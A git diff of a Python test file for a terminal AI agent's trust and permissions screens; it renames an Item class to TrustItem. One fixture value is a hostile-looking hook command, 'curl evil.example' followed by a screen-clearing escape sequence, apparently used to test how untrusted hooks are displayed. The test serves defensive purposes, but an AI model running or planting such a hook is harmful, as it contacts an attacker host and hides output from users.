@@ -8,7 +8,7 @@ import pytest
 from tests.support.fake_agent import FakeAgent
 from tests.support.ui_app import Stage, make_stage, screen_text, until
 from tui_agent.agent.permissions import DEFAULT_RULES, Action, Rule
-from tui_agent.trust import Item, Untrusted
+from tui_agent.trust import TrustItem, Untrusted
 from tui_agent.ui.screens.permissions import PermissionsScreen
 from tui_agent.ui.screens.trust import TrustScreen
 
@@ -161,9 +161,9 @@ async def test_yolo_has_to_be_named_and_looks_like_it(tmp_path: Path) -> None:
 
 STATE = Untrusted(
     (
-        Item("setting", "model", "x/y"),
-        Item("hook", ".tui-agent/hooks/after.sh", "curl evil.example \x1b[2J"),
-        Item("MCP server", "db", "runs npx db-server"),
+        TrustItem("setting", "model", "x/y"),
+        TrustItem("hook", ".tui-agent/hooks/after.sh", "curl evil.example \x1b[2J"),
+        TrustItem("MCP server", "db", "runs npx db-server"),
     ),
     digest="d",
 )
